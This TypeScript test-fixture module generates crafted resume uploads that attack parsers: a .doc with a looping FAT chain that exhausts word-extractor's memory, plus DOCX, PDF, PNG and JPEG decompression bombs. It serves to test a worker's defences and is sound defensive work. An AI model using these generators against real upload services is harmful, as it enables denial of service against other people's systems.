/**
 * Crafted resume files that attack the parser: small uploads that cost a naive parser a lot of time or memory.
 * Used by the worker's tests and by `pnpm abuse`. Pure functions: each builds its file in memory (never the inflated
 * content), deterministically.
 */
import { Buffer } from 'node:buffer';
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';

const OLE_SECTOR = 512;
const END_OF_CHAIN = -2;
const FREE = -1;
const FAT_SECTOR = -3;

/**
 * A legacy Word `.doc` (OLE compound file, ~2.5 KB) that passes type sniffing (`application/x-cfb`) and has a
 * `WordDocument` stream whose FAT sector chain loops: sector 1 → 2 → 1 → … A reader that follows the chain without
 * a bound (word-extractor does) collects sector ids until it runs out of memory.
 */
export function loopingDoc(): Uint8Array {
  // Sectors after the header: 0 = FAT, 1 and 2 = the WordDocument stream (looping), 3 = the directory.
  const file = Buffer.alloc(OLE_SECTOR * 5);
  const header = file.subarray(0, OLE_SECTOR);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header, 0);
  header.writeUInt16LE(0x003e, 24); // minor version
  header.writeUInt16LE(0x0003, 26); // major version 3 (512-byte sectors)
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector size 2^9
  header.writeUInt16LE(6, 32); // short sector size 2^6
  header.writeInt32LE(1, 44); // sectors of the FAT
  header.writeInt32LE(3, 48); // first sector of the directory
  header.writeInt32LE(4096, 56); // streams below this size live in the short stream
  header.writeInt32LE(END_OF_CHAIN, 60); // no short-sector FAT
  header.writeInt32LE(0, 64);
  header.writeInt32LE(END_OF_CHAIN, 68); // no extra master FAT sectors
  header.writeInt32LE(0, 72);
  for (let i = 0; i < 109; i++) header.writeInt32LE(i === 0 ? 0 : FREE, 76 + i * 4);

  const sector = (id: number) => file.subarray(OLE_SECTOR * (id + 1), OLE_SECTOR * (id + 2));
  const fat = sector(0);
  for (let i = 0; i < OLE_SECTOR / 4; i++) fat.writeInt32LE(FREE, i * 4);
  fat.writeInt32LE(FAT_SECTOR, 0);
  fat.writeInt32LE(2, 4); // 1 → 2
  fat.writeInt32LE(1, 8); // 2 → 1: the loop
  fat.writeInt32LE(END_OF_CHAIN, 12); // the directory is one sector

  sector(1).writeUInt16LE(0xa5ec, 0); // the Word binary format's magic number, as a real stream starts

  const directory = sector(3);
  const entry = (index: number, name: string, type: number, child: number, start: number, size: number) => {
    const at = index * 128;
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(directory, at);
    directory.writeUInt16LE(encoded.length, at + 64);
    directory.writeUInt8(type, at + 66);
    directory.writeUInt8(1, at + 67); // black
    directory.writeInt32LE(FREE, at + 68); // left sibling
    directory.writeInt32LE(FREE, at + 72); // right sibling
    directory.writeInt32LE(child, at + 76);
    directory.writeInt32LE(start, at + 116);
    directory.writeInt32LE(size, at + 120);
  };
  entry(0, 'Root Entry', 5, 1, END_OF_CHAIN, 0);
  entry(1, 'WordDocument', 2, FREE, 1, 64 * 1024); // large enough to be read through the FAT, not the short stream
  for (const empty of [2, 3]) {
    for (const offset of [68, 72, 76]) directory.writeInt32LE(FREE, empty * 128 + offset);
  }
  return new Uint8Array(file.buffer, file.byteOffset, OLE_SECTOR * 5);
}

type TZipEntry = { name: string; method: 0 | 8; compressed: Uint8Array; size: number; crc: number };

function stored(name: string, content: string): TZipEntry {
  const bytes = Buffer.from(content, 'utf8');
  return { name, method: 0, compressed: bytes, size: bytes.length, crc: crc32(bytes) };
}

/** A zip archive with local headers, data and a central directory (no zip64: every size is below 4 GB). */
function zipArchive(entries: TZipEntry[]): Uint8Array {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0, 6); // flags
    local.writeUInt16LE(entry.method, 8);
    local.writeUInt16LE(0, 10); // time
    local.writeUInt16LE(0x21, 12); // date: 1980-01-01
    local.writeUInt32LE(entry.crc, 14);
    local.writeUInt32LE(entry.compressed.length, 18);
    local.writeUInt32LE(entry.size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4); // version made by
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(0, 8);
    record.writeUInt16LE(entry.method, 10);
    record.writeUInt16LE(0, 12);
    record.writeUInt16LE(0x21, 14);
    record.writeUInt32LE(entry.crc, 16);
    record.writeUInt32LE(entry.compressed.length, 20);
    record.writeUInt32LE(entry.size, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(offset, 42); // offset of the local header
    central.push(record, name);
    parts.push(
      local,
      name,
      Buffer.from(entry.compressed.buffer, entry.compressed.byteOffset, entry.compressed.byteLength),
    );
    offset += local.length + name.length + entry.compressed.length;
  }
  const centralBytes = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  const zip = Buffer.concat([...parts, centralBytes, end]);
  return new Uint8Array(zip.buffer, zip.byteOffset, zip.byteLength);
}

/**
 * Raw deflate data of `chunk` repeated `times` times, built without the inflated data: the chunk is compressed
 * once, ending in a full flush (byte-aligned, no reference to earlier data), so its compressed bytes can simply be
 * repeated; an empty final block ends the stream. Also gives the CRC-32 of the whole inflated content.
 */
function repeatedDeflate(
  prefix: Buffer,
  chunk: Buffer,
  times: number,
  suffix: Buffer,
): { data: Buffer; crc: number; size: number } {
  const flushed = (bytes: Buffer) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const head = flushed(prefix);
  const body = flushed(chunk);
  const tail = deflateRawSync(suffix, { level: 9 }); // ends with the final block
  let crc = crc32(prefix);
  for (let i = 0; i < times; i++) crc = crc32(chunk, crc);
  crc = crc32(suffix, crc);
  const data = Buffer.concat([head, ...Array.from({ length: times }, () => body), tail]);
  return { data, crc, size: prefix.length + chunk.length * times + suffix.length };
}

const WORD_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

/**
 * One short paragraph repeated up to `targetBytes`. Its length (under 48 bytes) keeps deflate's back-references
 * short, so the chunk compresses about 400 times, like the attack seen in the wild (2.5 MB → 1 GB).
 */
function paragraphs(targetBytes: number): Buffer {
  const paragraph = '<w:p><w:r><w:t>engineer </w:t></w:r></w:p>';
  return Buffer.from(paragraph.repeat(Math.max(1, Math.round(targetBytes / paragraph.length))), 'utf8');
}

/**
 * A DOCX (~2–3 MB) whose `word/document.xml` inflates to about `inflatedMb` MB (default 1 GB) of ordinary
 * paragraphs. The zip is honest: its central directory states the real sizes, so a reader can refuse it before
 * inflating anything.
 */
export function docxBomb(inflatedMb = 1024): Uint8Array {
  const chunk = paragraphs(1024 * 1024);
  const times = Math.max(1, Math.round((inflatedMb * 1024 * 1024) / chunk.length));
  const document = repeatedDeflate(
    Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${WORD_NS}"><w:body>`),
    chunk,
    times,
    Buffer.from('<w:sectPr/></w:body></w:document>'),
  );
  return zipArchive([
    stored(
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
        '</Types>',
    ),
    stored(
      '_rels/.rels',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
        '</Relationships>',
    ),
    { name: 'word/document.xml', method: 8, compressed: document.data, size: document.size, crc: document.crc },
  ]);
}

const ADLER_BASE = 65521;

function adler32(bytes: Uint8Array): number {
  let a = 1;
  let b = 0;
  for (const byte of bytes) {
    a = (a + byte) % ADLER_BASE;
    b = (b + a) % ADLER_BASE;
  }
  return ((b << 16) | a) >>> 0;
}

/** The Adler-32 of two pieces from theirs (zlib's adler32_combine), so the repeated content is never materialised. */
function adler32Combine(first: number, second: number, secondLength: number): number {
  const rem = secondLength % ADLER_BASE;
  let a = first & 0xffff;
  let b = (rem * a) % ADLER_BASE;
  a += (second & 0xffff) + ADLER_BASE - 1;
  b += (first >>> 16) + (second >>> 16) + ADLER_BASE - rem;
  if (a >= ADLER_BASE) a -= ADLER_BASE;
  if (a >= ADLER_BASE) a -= ADLER_BASE;
  if (b >= 2 * ADLER_BASE) b -= 2 * ADLER_BASE;
  if (b >= ADLER_BASE) b -= ADLER_BASE;
  return ((b << 16) | a) >>> 0;
}

/**
 * A one-page PDF (~2 MB) whose page content stream inflates to about `inflatedMb` MB (default 512 MB) of text-showing
 * operators: the page count is small, so a page cap alone does not bound the work.
 */
export function pdfBomb(inflatedMb = 512): Uint8Array {
  const line = Buffer.from('BT /F1 10 Tf 50 700 Td (Experienced engineer, Rotterdam) Tj ET\n');
  const chunk = Buffer.concat(Array.from({ length: Math.ceil((256 * 1024) / line.length) }, () => line));
  const times = Math.max(1, Math.round((inflatedMb * 1024 * 1024) / chunk.length));
  // FlateDecode is the zlib format: a 2-byte header, raw deflate data, and the Adler-32 of the inflated content.
  const raw = repeatedDeflate(Buffer.alloc(0), chunk, times, Buffer.alloc(0));
  const zlibHeader = deflateSync(Buffer.alloc(0)).subarray(0, 2);
  const chunkAdler = adler32(chunk);
  let adler = 1;
  for (let i = 0; i < times; i++) adler = adler32Combine(adler, chunkAdler, chunk.length);
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(adler >>> 0);
  const stream = Buffer.concat([zlibHeader, raw.data, trailer]);

  const objects: Buffer[] = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    ),
    Buffer.concat([
      Buffer.from(`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`),
      stream,
      Buffer.from('\nendstream'),
    ]),
    Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(offset);
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(object);
    offset += object.length;
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref));
  const pdf = Buffer.concat(parts);
  return new Uint8Array(pdf.buffer, pdf.byteOffset, pdf.byteLength);
}

/**
 * A PNG that declares `side` × `side` pixels (a decompression bomb: 50 000² grey pixels are 2.5 GB decoded) in under
 * a hundred bytes: a valid IHDR, one IDAT holding the start of a deflate stream of zero rows, and IEND.
 */
export function pngBomb(side = 50_000): Uint8Array {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const rows = deflateSync(Buffer.alloc(64 * 1024));
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  return new Uint8Array(png.buffer, png.byteOffset, png.byteLength);
}

/** A JPEG whose frame header declares `side` × `side` pixels (at most 65 535), followed by no real image data. */
export function jpegBomb(side = 50_000): Uint8Array {
  const app0 = Buffer.from([
    0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
  ]);
  const sof = Buffer.from([
    0xff,
    0xc0,
    0x00,
    0x0b,
    0x08,
    side >> 8,
    side & 0xff,
    side >> 8,
    side & 0xff,
    0x01,
    0x01,
    0x11,
    0x00,
  ]);
  const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.alloc(256), Buffer.from([0xff, 0xd9])]);
  return new Uint8Array(jpeg.buffer, jpeg.byteOffset, jpeg.byteLength);
}
